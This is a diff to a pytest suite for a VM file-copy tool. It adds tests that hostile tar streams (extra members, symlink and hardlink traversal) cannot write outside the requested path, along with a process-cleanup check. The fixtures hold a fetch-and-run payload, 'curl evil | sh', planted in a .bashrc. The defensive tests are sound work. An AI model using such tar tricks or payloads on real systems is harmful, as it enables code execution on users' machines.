@@ -6,14 +6,17 @@ from __future__ import annotations
 import asyncio
 import base64
 import hashlib
+import io
 import os
 import shutil
 import stat
 import subprocess
+import tarfile
 import time
 from collections.abc import AsyncIterator
 from dataclasses import dataclass
 from pathlib import Path
+from typing import Any
 
 import grpc
 import pytest
@@ -22,6 +25,8 @@ from google.api import httpbody_pb2
 from vers_sdk import BadRequestError, NotFoundError, VersSdkClient
 from vers_sdk import models as M
 
+from services.cli import copy as copy_module
+from services.orchestrator.files import RAW_PORT
 from tests.conftest import Org, Platform
 from tests.launcher import VERS
 from tests.test_vms import new_vm, out
@@ -165,6 +170,13 @@ async def test_tar_streams_over_grpc_say_what_went_wrong(platform: Platform, vm:
             await upload("/tmp/garbage", b"this is not a tar" * 100)
         assert garbage.value.code() == grpc.StatusCode.FAILED_PRECONDITION
 
+        # Two at once: one has the guest's port for plain connections, the other goes over SSH; both whole.
+        assert await asyncio.gather(download("/etc/hostname"), download("/etc/hostname")) == [tar, tar]
+        # Nothing of a transfer outlives it in the guest, failed ones included.
+        async with platform.client(vm.org) as http:
+            running = await out(http, vm.vm_id, "for f in /proc/[0-9]*/cmdline; do tr '\\0' ' ' < $f; echo; done")
+        assert str(RAW_PORT) not in running and "tar -" not in running, running
+
 
 async def test_vers_copy_a_folder_tree_in_and_out(platform: Platform, vm: Vm, tmp_path: Path) -> None:
     source = tmp_path / "src"
@@ -250,3 +262,50 @@ def _sha256(path: Path) -> str:
         while chunk := file.read(1 << 20):
             digest.update(chunk)
     return digest.hexdigest()
+
+
+def _tar_of(*members: tuple[str, str, bytes | str]) -> io.BytesIO:
+    """A tar stream as a hostile guest might send it: (name, kind, data or link target)."""
+    buffer = io.BytesIO()
+    with tarfile.open(fileobj=buffer, mode="w") as tar:
+        for member_name, kind, data in members:
+            info = tarfile.TarInfo(member_name)
+            if kind == "file":
+                assert isinstance(data, bytes)
+                info.size = len(data)
+                tar.addfile(info, io.BytesIO(data))
+            else:
+                info.type = {"dir": tarfile.DIRTYPE, "symlink": tarfile.SYMTYPE, "hardlink": tarfile.LNKTYPE}[kind]
+                info.linkname = data if isinstance(data, str) else ""
+                info.mode = 0o755
+                tar.addfile(info)
+    buffer.seek(0)
+    return buffer
+
+
+@pytest.mark.parametrize(
+    ("members", "refused"),
+    [
+        ([("app.log", "file", b"ok"), (".bashrc", "file", b"curl evil | sh")], "not under 'app.log'"),
+        ([("x", "dir", b""), ("x/up", "symlink", ".."), ("x/up/.bashrc", "file", b"curl evil | sh")], "leads out of"),
+        ([("x", "dir", b""), ("x/h", "hardlink", "secret.txt")], "not under 'x'"),
+    ],
+)
+def test_a_download_never_writes_outside_what_was_asked_for(tmp_path: Path, members: list[Any], refused: str) -> None:
+    """`vers copy VM:PATH .` unpacks what the VM sends: a guest that runs someone else's code must not write a
+    file of the copier's outside PATH's own copy (as scp's CVE-2019-6111 allowed)."""
+    home = tmp_path / "home"
+    home.mkdir()
+    (home / ".bashrc").write_text("mine\n")
+    (home / "secret.txt").write_text("mine\n")
+    sent = members[0][0].split("/")[0]
+    with tarfile.open(fileobj=_tar_of(*members), mode="r|") as tar, pytest.raises(copy_module.CopyError, match=refused):
+        copy_module._extract(tar, home, sent, None)
+    assert (home / ".bashrc").read_text() == "mine\n" and (home / "secret.txt").read_text() == "mine\n"
+
+
+def test_a_file_sent_again_over_its_hard_link_writes_a_new_file(tmp_path: Path) -> None:
+    members = [("x", "dir", b""), ("x/f", "file", b"first"), ("x/h", "hardlink", "x/f"), ("x/h", "file", b"second")]
+    with tarfile.open(fileobj=_tar_of(*members), mode="r|") as tar:
+        copy_module._extract(tar, tmp_path, "x", "y")
+    assert (tmp_path / "y" / "f").read_bytes() == b"first" and (tmp_path / "y" / "h").read_bytes() == b"second"
